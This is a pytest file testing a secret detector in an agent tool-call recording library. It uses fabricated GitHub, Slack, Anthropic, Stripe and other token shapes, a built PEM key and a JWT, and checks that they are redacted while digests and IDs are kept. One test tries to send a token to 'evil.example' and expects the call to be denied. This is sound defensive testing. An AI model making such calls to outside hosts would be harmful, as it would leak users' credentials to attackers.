"""Secrets of known shape that nobody marked: found in whatever is recorded, and never in what merely looks random."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import uuid
from pathlib import Path
from typing import Any

import pytest

import remit
from remit.testing import Clock, temporary
from tests.privacy.conftest import CATALOGUE, OPEN, RAVI, TOKEN, everything_said, places, records

PEM = (
    "-----BEGIN RSA PRIVATE "
    + "KEY-----\n"
    + "\n".join(base64.b64encode(hashlib.sha512(bytes([n])).digest()).decode()[:64] for n in range(12))
    + "\n-----END RSA PRIVATE "
    + "KEY-----"
)
JWT = ".".join(
    base64.urlsafe_b64encode(part).decode().rstrip("=")
    for part in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"1234567890","name":"Ravi","iat":1516239022}', b"s" * 32)
)
SHAPES = {
    "github": TOKEN,
    "slack": "xoxb-" + "123456789012-1234567890123-abcdefghijklmnopqrstuvwx",
    "anthropic": "sk-ant-" + "api03-" + "aB3dE5fG7h" * 9 + "abcAA",
    "gcp": "AIza" + "SyD3f5G7h9J1k3L5m7N9p1Q3r5S7t9U1v3W",
    "stripe": "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
    "gitlab": "glpat-" + "a1B2c3D4e5F6g7H8i9J0",
    "jwt": JWT,
    "pem": PEM,
}


def dump(**arguments: Any) -> str:
    return "done"


def nowhere(app: remit.App, needle: str, folder: Path) -> None:
    assert places(needle, folder) == []
    said = [text for text in everything_said(app) if needle in text or json.dumps(needle)[1:-1] in text]
    assert said == []


@pytest.mark.requirement("privacy:detector")
class TestWhatNobodyMarked:
    @pytest.mark.parametrize("shape", SHAPES)
    def test_is_found_in_an_argument(self, app: remit.App, grant: remit.Grant, tmp_path: Path, shape: str) -> None:
        """And the record says by which rule, never the value."""
        secret = SHAPES[shape]
        with app.session(grant) as session:
            session.call("bank.note", {"text": f"use {secret} please", "key": secret}, run=dump)

        [intent] = records(app, "call.intent")
        assert all(said.startswith("detector: ") for said in intent.private["arguments"]["hidden"])
        assert intent.disclosed()["arguments"]["text"]["v"][0] == "use "  # type: ignore[index]
        nowhere(app, secret, tmp_path)
        app.verify()

    @pytest.mark.parametrize(
        "value",
        [
            {"deep": [{"er": TOKEN}]},
            {TOKEN: 1},
            (1, TOKEN),
            TOKEN.encode(),
            f"https://x.acme.com/?token={TOKEN}",
            base64.b64encode(TOKEN.encode()).decode(),
            f"ü{TOKEN}ü",
        ],
        ids=["nested", "key", "tuple", "bytes", "url", "base64", "not ascii"],
    )
    def test_is_found_wherever_it_lies(self, app: remit.App, grant: remit.Grant, tmp_path: Path, value: Any) -> None:
        """Also in what a tool returns."""
        with app.session(grant) as session:
            session.call("bank.note", {"text": value}, run=dump)
            session.call("bank.note", {"text": "x"}, run=lambda text: value)

        nowhere(app, TOKEN, tmp_path)
        assert "hidden" in records(app, "call.outcome")[1].private["result"]

    def test_is_found_in_errors_context_and_comments(self, app: remit.App, grant: remit.Grant, tmp_path: Path) -> None:
        """Whoever wrote them."""

        def fails(text: str) -> None:
            raise ValueError(f"cannot use {TOKEN}")

        with app.session(grant) as session:
            session.context(user_turn=f"my token is {TOKEN}")
            with pytest.raises(ValueError, match="cannot use"):
                session.call("bank.note", {"text": "x"}, run=fails)
            session.close(f"saw {TOKEN}")
        app.verdict(
            session.id,
            "inconclusive",
            reason="evidence_missing",
            comment=f"it wrote {TOKEN}",
            credential="user:carol@acme.com",
        )

        assert not [text for text in everything_said(app) if TOKEN in text]

    def test_is_not_in_a_refusal(self, app: remit.App, tmp_path: Path) -> None:
        """Neither in what the agent is told nor in the record."""
        given = {**OPEN, "tools": {"bank.note": {"resources": "any", "arguments": {"text": {"max_len": 3}}}}}
        with app.session(app.issue(given, credential=RAVI)) as session, pytest.raises(remit.Denied) as caught:
            session.call("bank.note", {"text": f"a {TOKEN}"}, run=dump)

        assert TOKEN not in caught.value.reason
        nowhere(app, TOKEN, tmp_path)

    def test_in_a_resource_is_not_in_its_record(self, tmp_path: Path) -> None:
        """A URL that carries a token is judged whole and recorded without it."""
        catalogue = {"tools": {"http.get": {"accesses": ["read {url}"], "kinds": {"url": "url"}}}}
        given = {**OPEN, "tools": {"http.get": {"resources": ["read https://api.acme.com/**"]}}}
        url = f"https://api.acme.com/v1/{TOKEN}"
        with temporary(tmp_path, catalogue=catalogue) as app, app.session(app.issue(given, credential=RAVI)) as session:
            session.call("http.get", {"url": url}, run=dump)
            with pytest.raises(remit.Denied):
                session.call("http.get", {"url": f"https://evil.example/{TOKEN}"}, run=dump)
            nowhere(app, TOKEN, tmp_path)

    def test_result_that_held_one_is_not_given_twice(self, app: remit.App, grant: remit.Grant) -> None:
        """What was kept is not what the tool returned."""
        with app.session(grant) as session:
            options: Any = {"call_id": "1", "scope": "run"}
            assert session.call("bank.dump", {"n": 1}, run=lambda n: TOKEN, **options) == TOKEN
            with pytest.raises(remit.Denied, match="held something secret"):
                session.call("bank.dump", {"n": 1}, run=dump, **options)


@pytest.mark.requirement("privacy:detector")
class TestWhatIsNoSecret:
    @pytest.mark.parametrize(
        "value",
        [
            hashlib.sha256(b"x").hexdigest(),
            "sha256:" + hashlib.sha256(b"y").hexdigest(),
            hashlib.sha1(b"x").hexdigest(),
            str(uuid.UUID(int=7 << 100)),
            base64.b64encode(hashlib.sha512(b"z").digest()).decode(),
            "ravi@acme.com",
            "https://api.acme.com/tickets/88?page=2",
            "4711-0815",
        ],
    )
    @pytest.mark.parametrize("name", ["digest", "commit", "id", "cursor"])
    def test_is_kept(self, app: remit.App, grant: remit.Grant, name: str, value: str) -> None:
        """A digest is an argument like any other: mere randomness is nobody's key."""
        with app.session(grant) as session:
            session.call("bank.note", {name: value}, run=lambda **arguments: value)

        assert records(app, "call.intent")[0].disclosed()["arguments"] == {name: value}  # type: ignore[index]
        assert records(app, "call.outcome")[0].disclosed()["result"] == value  # type: ignore[index]

    def test_text_that_looks_like_our_own_marks_is_kept(self, app: remit.App, grant: remit.Grant) -> None:
        """Nobody can make a record claim a secret."""
        text = '{"$remit":"secret","v":{"by":"detector","commitment":"00"}}'
        with app.session(grant) as session:
            session.call("bank.note", {"text": text}, run=dump)

        [intent] = records(app, "call.intent")
        assert "hidden" not in intent.private["arguments"]
        assert intent.disclosed()["arguments"] == {"text": text}  # type: ignore[index]


@pytest.mark.requirement("privacy:detector")
def test_turning_it_off_is_recorded(tmp_path: Path, clock: Clock) -> None:
    """And then such text is kept, encrypted, like any other."""
    with temporary(tmp_path, clock=clock, catalogue=CATALOGUE, privacy=remit.Privacy(detect=False)) as app:
        with app.session(app.issue(OPEN, credential=RAVI)) as session:
            session.call("bank.note", {"text": TOKEN}, run=dump)

        assert records(app, "call.intent")[0].disclosed()["arguments"] == {"text": TOKEN}  # type: ignore[index]
        assert records(app, "config.changed")[-1].data["privacy"]["detector"] == "off"
    with temporary(tmp_path, clock=clock, catalogue=CATALOGUE) as app:
        app.issue(OPEN, credential=RAVI)
        assert records(app, "config.changed")[-1].data["privacy"]["detector"].startswith("kingfisher-secret-scanner ")


@pytest.mark.parametrize(("name", "value"), [("REMIT_DETECT", "maybe"), ("REMIT_RESULTS", "lots")])
def test_a_setting_that_is_none_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, value: str
) -> None:
    """Nothing is guessed about privacy."""
    monkeypatch.setenv(name, value)
    with pytest.raises(remit.UsageError, match=name):
        remit.open(f"sqlite:///{tmp_path / 'remit.db'}")


def test_works_in_a_child_of_fork(app: remit.App, grant: remit.Grant) -> None:
    """The scanner is native code; a child may go on using it."""
    with app.session(grant, key="k") as session:
        session.call("bank.note", {"text": "x"}, run=dump)
        child = os.fork()
        if child == 0:
            try:
                session.call("bank.note", {"text": TOKEN}, run=dump)
            finally:
                os._exit(0)
        os.waitpid(child, 0)

    assert records(app, "call.intent")[-1].private["arguments"]["hidden"] == ["detector: betterleaks.github-pat"]
